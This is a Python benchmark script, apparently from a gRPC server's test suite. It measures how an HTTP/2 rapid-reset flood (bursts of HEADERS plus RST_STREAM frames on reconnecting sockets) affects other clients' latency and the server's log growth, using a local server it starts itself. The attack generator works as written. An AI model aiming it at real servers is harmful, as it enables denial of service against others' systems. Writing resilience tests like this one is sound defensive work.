#!/usr/bin/env python3
"""What a rapid reset costs the other callers (issue 29, item 3): the p99 of a steady client's Health/Check calls
without an attack, then beside ATTACKERS rapid-reset attackers (HEADERS + RST_STREAM pairs on one connection each,
reconnecting whenever cut off), in the same run; and how much the server's log grew in each phase.

    Tests/Benchmarks/rapid_reset.py SERVER_BINARY [ATTACKERS] [SECONDS]

Starts SERVER_BINARY (kindred-interop-server: --log-level info, its log to a file) on a free port, runs h2load
(-c 4 -m 1) for SECONDS unattacked and SECONDS attacked, and prints both p99s, the log growth, and how the
server ended the attackers' connections (GOAWAY error codes: 11 is ENHANCE_YOUR_CALM, 2 INTERNAL_ERROR).
"""

import os
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
HEALTH = "/grpc.health.v1.Health/Check"
ATTACKED = b"/grpc.testing.TestService/EmptyCall"


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\x10" + bytes([len(name)]) + name + bytes([len(value)]) + value


BLOCK = b"".join(literal(n, v) for n, v in [
    (b":method", b"POST"), (b":scheme", b"http"), (b":path", ATTACKED), (b":authority", b"x"),
    (b"content-type", b"application/grpc"), (b"te", b"trailers")])


def burst(first_stream, pairs):
    """`pairs` streams opened and reset at once: HEADERS (no END_STREAM) then RST_STREAM CANCEL, each."""
    return b"".join(
        frame(1, 0x4, stream, BLOCK) + frame(3, 0, stream, struct.pack(">I", 8))
        for stream in range(first_stream, first_stream + 2 * pairs, 2))


def goaway_codes(data):
    """The error codes of the GOAWAY frames in `data` (whole frames only; enough to tell how a connection ended)."""
    codes, offset = [], 0
    while offset + 9 <= len(data):
        length = int.from_bytes(data[offset:offset + 3], "big")
        if data[offset + 3] == 7 and offset + 9 + 8 <= len(data):
            codes.append(int.from_bytes(data[offset + 13:offset + 17], "big"))
        offset += 9 + length
    return codes


def attack(port, stop, counts, lock):
    while not stop.is_set():
        received = b""
        try:
            with socket.create_connection(("127.0.0.1", port)) as sock:
                with lock:
                    counts["connections"] += 1
                sock.sendall(PREFACE)
                stream = 1
                while not stop.is_set() and stream < 2**31 - 400:
                    sock.sendall(burst(stream, 100))
                    stream += 200
                    with lock:
                        counts["streams"] += 100
                    sock.setblocking(False)
                    try:
                        chunk = sock.recv(1 << 16)
                        if not chunk:
                            break
                        if len(received) < 1 << 16:
                            received += chunk
                    except BlockingIOError:
                        pass
                    sock.setblocking(True)
        except OSError:
            pass
        with lock:
            for code in goaway_codes(received):
                counts[f"goaway {code}"] = counts.get(f"goaway {code}", 0) + 1


def p99(log_file):
    """The 99th percentile of h2load's per-request log (tab-separated; the third column is µs), in ms."""
    latencies = sorted(int(line.split("\t")[2]) for line in open(log_file) if line.count("\t") >= 2)
    return latencies[int(len(latencies) * 0.99)] / 1000 if latencies else float("nan"), len(latencies)


def steady(port, seconds, workdir, label):
    body = os.path.join(workdir, "empty.grpc")
    with open(body, "wb") as f:
        f.write(b"\x00\x00\x00\x00\x00")
    log = os.path.join(workdir, f"h2load-{label}.log")
    subprocess.run(
        ["h2load", "-D", str(seconds), "-c", "4", "-m", "1", "-t", "1", "-H", "content-type: application/grpc",
         "-H", "te: trailers", "-d", body, f"--log-file={log}", f"http://127.0.0.1:{port}{HEALTH}"],
        check=True, capture_output=True)
    return p99(log)


def main():
    binary = sys.argv[1]
    attackers = int(sys.argv[2]) if len(sys.argv) > 2 else 4
    seconds = int(sys.argv[3]) if len(sys.argv) > 3 else 10
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    workdir = tempfile.mkdtemp(prefix="rapid-reset-")
    server_log = os.path.join(workdir, "server.log")
    with open(server_log, "wb") as out:
        server = subprocess.Popen([binary, "--log-level", "info", "--listen", f"127.0.0.1:{port}"],
                                  stdout=out, stderr=subprocess.STDOUT)
    try:
        for _ in range(100):
            try:
                socket.create_connection(("127.0.0.1", port)).close()
                break
            except OSError:
                time.sleep(0.1)
        size = os.path.getsize(server_log)
        calm_p99, calm_calls = steady(port, seconds, workdir, "unattacked")
        calm_growth = os.path.getsize(server_log) - size

        stop, counts, lock = threading.Event(), {"connections": 0, "streams": 0}, threading.Lock()
        threads = [threading.Thread(target=attack, args=(port, stop, counts, lock)) for _ in range(attackers)]
        size = os.path.getsize(server_log)
        for thread in threads:
            thread.start()
        attacked_p99, attacked_calls = steady(port, seconds, workdir, "attacked")
        stop.set()
        for thread in threads:
            thread.join()
        attacked_growth = os.path.getsize(server_log) - size
    finally:
        server.terminate()
        server.wait()
    print(f"unattacked: Health/Check p99 {calm_p99:.2f} ms ({calm_calls} calls), log +{calm_growth} bytes")
    print(f"attacked:   Health/Check p99 {attacked_p99:.2f} ms ({attacked_calls} calls), log +{attacked_growth} bytes")
    print(f"attack:     {attackers} attackers, {counts.pop('connections')} connections, "
          f"{counts.pop('streams')} streams opened and reset; how connections ended: {counts or 'no GOAWAY seen'}")
    print(f"ratio:      attacked p99 / unattacked p99 = {attacked_p99 / calm_p99:.2f}")


if __name__ == "__main__":
    main()
